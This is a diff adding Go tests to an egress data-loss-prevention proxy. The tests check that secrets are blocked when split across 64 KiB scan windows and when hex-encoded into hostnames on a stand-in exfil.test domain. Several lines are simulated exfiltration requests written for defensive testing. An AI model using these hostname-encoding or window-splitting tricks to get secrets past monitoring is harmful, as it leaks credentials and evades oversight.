@@ -342,3 +342,35 @@ func TestDLPOff(t *testing.T) {
 	_, _, resp = r.raw(t, "CONNECT 7365637265745f6170695f6b65795f3132333435.exfil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")
 	require.NotContains(t, body(t, resp), "egress.dlp")
 }
+
+// TestDLPAcrossWindows: a secret placed across the boundary of the body's
+// 64 KiB scan windows, at each offset around it, is found, and the
+// server never receives it whole.
+func TestDLPAcrossWindows(t *testing.T) {
+	rec := newRecorder(t)
+	r := newRig(t, rigOpts{net: allow("api.test:" + rec.port), resolver: egresstest.Resolver{"api.test": {"127.0.0.1"}}, scan: scanner(t)})
+	c := r.client(nil)
+	for _, at := range []int{64<<10 - 30, 64<<10 - 10, 64<<10 - 1, 64 << 10, 128<<10 - 4<<10 - 5} {
+		payload := strings.Repeat("lorem ipsum ", at/12+1)[:at] + " " + awsKey + " tail"
+		resp, err := c.Post("http://api.test:"+rec.port+"/up", "text/plain", strings.NewReader(payload))
+		require.NoError(t, err)
+		got := body(t, resp)
+		require.Equal(t, http.StatusForbidden, resp.StatusCode, "secret at %d: %s", at, got)
+		require.Contains(t, got, "(aws-access-token)")
+	}
+	require.False(t, strings.Contains(rec.all(), awsKey), "a secret reached the server")
+}
+
+// TestDLPHostnamePlainHTTP: the name check holds for a plain http
+// request too, and its refusal keeps the finding.
+func TestDLPHostnamePlainHTTP(t *testing.T) {
+	res := &lookups{}
+	r := newRig(t, rigOpts{net: allow("*.exfil.test:80"), resolver: res})
+	_, _, resp := r.raw(t, "GET http://7365637265745f6170695f6b65795f3132333435.exfil.test/ HTTP/1.1\r\nHost: 7365637265745f6170695f6b65795f3132333435.exfil.test\r\n\r\n")
+	require.Equal(t, http.StatusForbidden, resp.StatusCode)
+	require.Equal(t, "hostname-encoded", resp.Header.Get("X-Toolwarden-Finding"))
+	require.Equal(t, egress.RuleDLP, resp.Header.Get("X-Toolwarden-Rule"))
+	ev := r.waitEvents(t, 1)[0]
+	require.Equal(t, "hostname-encoded", ev.Finding)
+	require.Empty(t, res.asked, "refused before the lookup")
+}
